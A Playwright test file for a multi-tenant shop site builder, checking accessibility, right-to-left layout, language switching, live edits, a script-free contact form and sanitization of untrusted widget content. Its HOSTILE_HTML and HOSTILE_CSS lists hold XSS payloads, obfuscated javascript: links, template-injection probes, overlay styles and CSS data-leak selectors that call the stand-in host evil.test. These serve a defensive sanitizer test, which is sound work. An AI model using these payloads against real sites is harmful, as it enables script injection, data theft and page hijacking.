"""The public sites in a browser: what visitors see, accessibility, and content that was written to do harm."""

import re

import httpx
import pytest
from playwright.async_api import expect

from journeys.accessibility import DESKTOP, PHONE, find_violations, find_what_is_too_wide
from journeys.boxes import read_directions
from polling import poll

PAGES = ("", "/shop", "/about")

# Each is rejected, or does nothing in a browser.
HOSTILE_HTML = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
    "<a href='JaVaScRiPt:hit()' id=go>x</a>",
    "<a href='&#106;avascript:hit()' id=go>x</a>",
    "<a href='java\tscript:hit()' id=go>x</a>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<form action='javascript:hit()'><button>x</button></form>",
    "<p data-gjs-script='hit()'>x</p>",
    "<p style='background:url(//evil.test/a.png)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999'>x</p>",
    "<img src='//evil.test/a.png'>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "</div></div></main><p style='position:absolute;inset:0'>x</p>",
    "<p style='margin-top:-4000px;height:9000px;background:red'>x</p>",
    "<p style='position:absolute;top:-9000px;left:-9000px;width:30000px;height:30000px;z-index:9999'>x</p>",
    "<p style='transform:scale(500)'>x</p>",
    "{{ 7 * 7 }}{% include 'page.html' %}",
    "<style>@import '//evil.test/a.css';</style>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<p id=content class=skip>x</p>",
    "<p data-gjs-type=script data-GJS-script='hit()'>x</p>",
    "<a href='&#x6A;&#x61;vascript&colon;hit()' id=go>x</a>",
    "<a href='data:text/html,<script>opener.hit()</script>' id=go target=_blank>x</a>",
    "<svg><script>hit()</script><foreignObject><iframe src='javascript:parent.hit()'></foreignObject></svg>",
    "<p style='color:red}</style><script>hit()</script>'>x</p>",
    "<p style='&#98;ackground:u&#114;l(//evil.test/a.png)'>x</p>",
    "<object data='//evil.test/a'></object><embed src='//evil.test/a'>",
    "<div hidden=until-found onbeforematch=hit()>x</div><details ontoggle=hit() open>x</details>",
    "{{ self.__init__.__globals__ }}{% for x in ().__class__.__bases__ %}{% endfor %}${hit()}#{hit()}",
]
HOSTILE_CSS = [
    "@import url(//evil.test/a.css);",
    "@\\69mport url(//evil.test/a.css);",
    "p { background: url(//evil.test/a.png) }",
    "p { background: u\\72l(//evil.test/a.png) }",
    "p { background: image-set('//evil.test/a.png' 1x) }",
    "@font-face { font-family: x; src: url(//evil.test/a.woff2) }",
    "} } body { display: none } p {",
    "</style><script>hit()</script>",
    "p { position: fixed; inset: 0 }",
    "p { position: absolute; inset: -9000px; z-index: 99999 }",
    "body, html, header { display: none }",
    "p { box-shadow: 0 0 0 9999px red }",
    "p { outline: 9999px solid red }",
    "input[value^=a] { background: url(//evil.test/a) }",
    ":root { --primary: red } :root header { visibility: hidden }",
    "@\\49 MPORT/**/'//evil.test/a.css';",
    "a[href^='/en'] { background: url(//evil.test/leak?a) }",
    "form:has(input[name^=e]:valid) { background: url(//evil.test/leak) }",
    "p::before { content: url(//evil.test/a.png) }",
    "p { cursor: url(//evil.test/a.cur), auto }",
    "p { --x: url(//evil.test/a.png); background: var(--x) }",
    "@layer a { @supports (x:y) { p { background: \\75\\72\\6c(//evil.test/a.png) } } }",
    "p { filter: url(//evil.test/a.svg#x) } p { mask: url(//evil.test/b.svg) }",
]
# How many of a grid of points outside of the widget's box lead to an element of it.
COVERED = """id => {
  const box = document.querySelector(`[data-widget="${id}"]`).getBoundingClientRect();
  let covered = 0;
  for (let x = 5; x < innerWidth; x += 60)
    for (let y = 5; y < innerHeight; y += 40) {
      const isInside = x >= box.left && x <= box.right && y >= box.top && y <= box.bottom;
      if (!isInside && document.elementFromPoint(x, y)?.closest(`[data-widget="${id}"]`)) covered++;
    }
  return covered;
}"""


@pytest.fixture
def site_url(souk):
    def site_url(slug, path):
        return souk.url.replace("localhost", f"{slug}.localhost") + path

    return site_url


@pytest.fixture
async def visitor(open_page):
    """A page, with what it did that it must not: dialogs, failed and outside requests, scripts."""
    page, incidents = await open_page(may_fail=True, viewport=DESKTOP, locale="en-US"), []
    page.on("dialog", lambda dialog: incidents.append(f"dialog {dialog.message}"))
    page.on("pageerror", lambda error: incidents.append(f"error {error}"))
    page.on("request", lambda request: incidents.append(request.url) if is_outside(request.url) else None)
    await page.add_init_script("window.hit = () => { window.wasHit = true; }")
    return page, incidents


def is_outside(url):
    return not re.match(r"(http://[a-z.]*localhost:\d+/|data:|blob:|about:)", url)


@pytest.fixture
async def editor(souk, get_token, ssl_context):
    """A client of the site of Rif Market as its admin."""
    headers = {"Authorization": f"Bearer {await get_token('admin@rif.test')}"}
    async with httpx.AsyncClient(
        base_url=souk.url, headers=headers, verify=ssl_context, timeout=60
    ) as client:
        yield client


@pytest.mark.parametrize("slug", ["atlas", "rif"])
@pytest.mark.parametrize("locale", ["en", "ar"])
async def test_public_pages_are_accessible_and_fit_a_phone(visitor, site_url, slug, locale):
    page, incidents = visitor
    for path in PAGES:
        await page.set_viewport_size(DESKTOP)
        response = await page.goto(site_url(slug, f"/{locale}{path}"))
        assert response.status == 200
        await page.evaluate("document.fonts.ready.then(() => null)")
        assert await find_violations(page) == []
        await page.set_viewport_size(PHONE)
        assert await find_what_is_too_wide(page) == []
    assert await page.locator("html").get_attribute("dir") == ("rtl" if locale == "ar" else "ltr")
    assert incidents == []


@pytest.mark.parametrize(("path", "count"), [("/about", 2), ("/shop/account", 1)])
async def test_in_arabic_addresses_and_numbers_are_written_from_left_to_right(visitor, site_url, path, count):
    page, _ = visitor
    await page.goto(site_url("atlas", f"/ar{path}"))
    assert await read_directions(page, count) == ["ltr"] * count


async def test_a_visitor_finds_the_way_and_changes_the_language(visitor, site_url):
    page, incidents = visitor
    await page.goto(site_url("atlas", "/"))
    await expect(page).to_have_url(site_url("atlas", "/fr"))
    await page.get_by_role("link", name="Voir nos services").click()
    await expect(page.get_by_role("heading", level=1)).to_have_text("Services et tarifs")
    await expect(page.locator(".product")).to_have_count(24)
    await page.get_by_role("link", name="العربية").click()
    await expect(page).to_have_url(site_url("atlas", "/ar/shop"))
    await page.goto(site_url("atlas", "/qui-sommes-nous.html"))
    await expect(page).to_have_url(site_url("atlas", "/fr/about"))
    assert incidents == []


async def test_a_saved_change_shows_within_a_second(visitor, editor, site_url):
    page, _ = visitor
    url = site_url("rif", "/en/news")
    created = await editor.post(
        "/en/api/pages", json={"name": "News", "route": "/news", "content": [{"html": "<p>Before</p>"}]}
    )
    assert created.status_code == 201
    await page.goto(url)
    await expect(page.get_by_text("Before")).to_be_visible()
    slides = "<div class='slide'>1</div><div class='slide'>2</div>"
    slider = f"<souk-slider slides='2' width='400' height='200' controls='true'>{slides}</souk-slider>"
    body = {"jsonSimplifiedContent": [{"html": f"<p>After</p>{slider}", "css": "p { color: rgb(1, 2, 3) }"}]}
    assert (await editor.put(f"/en/api/pages/{created.json()['id']}", json=body)).status_code == 200
    await page.wait_for_timeout(1000)
    await page.reload()
    await expect(page.get_by_text("After")).to_have_css("color", "rgb(1, 2, 3)")
    # The buttons of the slider are the browser's own, and above the slides.
    shown = page.locator("souk-slider")
    box = await shown.bounding_box()
    await page.mouse.click(box["x"] + box["width"] - 30, box["y"] + box["height"] / 2)
    await poll(lambda: shown.evaluate("slider => slider.scrollLeft"), lambda moved: moved == box["width"])
    # Of one tenant's host, not of the other's.
    assert (await page.goto(site_url("atlas", "/en/news"))).status == 404
    assert (await editor.delete(f"/en/api/pages/{created.json()['id']}")).status_code == 200


@pytest.mark.asvs("1.2.1")
async def test_hostile_content_runs_nothing_calls_nowhere_and_stays_in_its_box(visitor, editor, site_url):
    page, incidents = visitor
    about = (await editor.get("/en/api/pages?route=/about")).json()["hydra:member"][0]
    body = {
        "name": "Hostile", "kind": "widget", "frontHook": "main", "page": about["@id"], "frontHookPriority": 99,
    }  # fmt: skip
    widget = (await editor.post("/en/api/pages", json=body)).json()
    samples = [(html, "") for html in HOSTILE_HTML] + [("<p>x</p>", css) for css in HOSTILE_CSS]
    stored = 0
    for html, css in samples:
        saved = await editor.put(
            f"/en/api/pages/{widget['id']}", json={"jsonSimplifiedContent": [{"html": html, "css": css}]}
        )
        if saved.status_code == 422:
            assert saved.json()["violations"][0]["message"].startswith("Line "), (html, css)
            continue
        stored += 1
        assert saved.status_code == 200, saved.text
        preview = (await editor.post(f"/en/api/pages/{widget['id']}/preview")).json()["path"]
        await page.goto(site_url("rif", preview))
        if await page.locator("#go").count():
            await page.locator("#go").click()
        assert not await page.evaluate("window.wasHit"), (html, css)
        assert incidents == [], (html, css)
        await page.evaluate("scrollTo(0, 0)")
        assert await page.evaluate(COVERED, widget["id"]) == 0, (html, css)
        await page.evaluate(
            "id => document.querySelector(`[data-widget='${id}']`).scrollIntoView()", widget["id"]
        )
        assert await page.evaluate(COVERED, widget["id"]) == 0, (html, css)
        await expect(page.locator("header.site-header")).to_be_visible()
    assert 0 < stored < len(samples)
    assert (await editor.delete(f"/en/api/pages/{widget['id']}")).status_code == 200


async def test_a_visitor_writes_to_the_business_without_script(open_page, site_url, editor):
    page = await open_page(own_context=True, viewport=PHONE, java_script_enabled=False)
    await page.goto(site_url("rif", "/en/about"))
    form = page.get_by_role("form", name="Write to us")
    await form.get_by_label("Name").fill("Salma")
    await form.get_by_label("Message").fill("Do you have saffron?")
    await form.get_by_role("button", name="Send").click()
    await expect(form.get_by_text("Send an e-mail address or a phone number.")).to_be_visible()
    await expect(form.get_by_label("Message")).to_have_value("Do you have saffron?")
    await form.get_by_label("E-mail").fill("salma@example.org")
    await form.get_by_role("button", name="Send").click()
    await expect(page.get_by_text("Thank you. Your message was sent.")).to_be_visible()
    messages = (await editor.get("/en/api/contact_messages")).json()["hydra:member"]
    # What was rejected first is not among them.
    assert [
        (message["email"], message["text"], message["route"], message["locale"], message["isRead"])
        for message in messages
        if message["name"] == "Salma"
    ] == [("salma@example.org", "Do you have saffron?", "/about", "en", False)]
